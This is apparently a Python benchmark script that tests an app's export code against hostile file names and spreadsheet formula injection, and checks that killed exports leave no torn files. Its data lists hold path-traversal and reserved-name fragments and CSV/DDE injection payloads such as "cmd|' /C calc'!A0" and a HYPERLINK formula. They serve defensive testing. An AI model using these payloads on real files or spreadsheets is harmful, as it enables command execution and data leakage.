"""What killed exports leave, where hostile file names lead, and which cells a spreadsheet would run."""

from __future__ import annotations

import argparse
import csv
import io
import os
import random
import sys
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path, PureWindowsPath

from app.documents.files import csv_of
from app.documents.names import inside
from tests.benchmarks.report import row
from tests.helpers.export_killing import Remains, kill_once

KILLS = 1_000
NAMES = 100_000
CREATED = 5_000
"""So many of the names are really given to files."""
SIDE_BY_SIDE = 4
"""Most of the time is starting Python."""

PIECES = [
    *"abcXYZ0189 .-_~$%&'()[]{}", "../", "..\\", "/", "\\", "C:", "//host/share/", "\\\\?\\", "CON", "nul",
    "COM1", "LPT¹", "a:b", ":$DATA", "\0", "\n", "\r", "\x1b[2J", "\x7f", "...", "   ", "-rf ", "~/", "$(x)",
    "`x`", "|", "<", ">", '"', "*", "?", "%2e%2e%2f", "\u202e", "\u200b", "\ufeff", "\u2028", "／", "＼",
    "：", "é", "e\u0301", "季度报告", "🙂", "\ud800", "x" * 300, ".json", ".csv", ".exe", ".lnk",
    "desktop.ini", ".part", "\u00ad", "\u2044", "\u2215",
]  # fmt: skip
STARTS = [
    *"=+-@",
    "\t",
    "\r",
    "\n",
    "\0",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u200b=",
    "\ufeff=",
    "--",
    "-+",
    "=-",
]
ENDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/"&A1,"y")', "SUM(1,1)*cmd|' /C calc'!A0", "",
    "WEBSERVICE(A1)", "DDE(0;0;1)", "A1\n=1+1", 'x","=1+1', "x;=1+1", "x\t=1+1", "x\r\n=1+1", "'=1", "1e5-1",
]  # fmt: skip


def escapes(names: int) -> int:
    """Names that would not lie directly in the folder by the rules of any system."""
    dice = random.Random()
    with tempfile.TemporaryDirectory() as top:
        folder = Path(top) / "chosen"
        folder.mkdir()
        real = os.path.realpath(folder)
        bad = 0
        for number in range(names):
            path = inside(folder, "".join(dice.choices(PIECES, k=dice.randint(0, 8))))
            if number < CREATED:
                path.touch()
            bad += os.path.dirname(os.path.realpath(path)) != real
            bad += PureWindowsPath(path.name).name != path.name or PureWindowsPath(path.name).is_reserved()
        return bad + len(os.listdir(top)) - 1


def kill_again_and_again(folder: Path, kills: int) -> list[Remains]:
    dice = random.Random()
    return [kill_once(folder, run, dice.uniform(0.0, 0.08)) for run in range(kills)]


def dangerous_cells() -> tuple[int, int]:
    """Cells that begin as a formula does, of all those that meant to."""
    texts = [start + end for start in STARTS for end in ENDS]
    data = csv_of([{text: text, "n": {text: [text]}} for text in texts]).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(data, newline="")) for cell in line]
    found = [cell for cell in cells if cell.lstrip(" \u200b\ufeff")[:1] in set("=+-@\t\r\n\0＝＋－＠")]
    return sum(cell != "" for cell in found), sum(cell.strip("'") != "" for cell in cells)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--kills", type=int, default=KILLS)
    parser.add_argument("--names", type=int, default=NAMES)
    asked = parser.parse_args()
    bad = escapes(asked.names)
    row(f"{asked.names:,} hostile file names: escapes from the folder", "0", str(bad), bad == 0)
    each = -(-asked.kills // SIDE_BY_SIDE)
    with tempfile.TemporaryDirectory() as top, ThreadPoolExecutor(SIDE_BY_SIDE) as pool:
        folders = [Path(top) / str(number) for number in range(SIDE_BY_SIDE)]
        parts = pool.map(kill_again_and_again, folders, [each] * SIDE_BY_SIDE)
        remains = [one for part in parts for one in part]
    torn, lost, left = (sum(getattr(one, name) for one in remains) for name in ("torn", "lost", "leftovers"))
    hit = sum(one.was_writing for one in remains)
    kills = f"{len(remains):,} kills (-9) during export"
    row(f"{kills}: torn files", "0", f"{torn} ({hit} kills hit a file half written)", torn == 0)
    row(f"{kills}: kept lines lost", "0", str(lost), lost == 0)
    row(f"{kills}: temporary files after the next export", "0", str(left), left == 0)
    dangerous, cells = dangerous_cells()
    row(
        "cells of CSV that a spreadsheet would take for a formula",
        "0",
        f"{dangerous} of {cells}",
        dangerous == 0,
    )


if __name__ == "__main__":
    sys.exit(main())
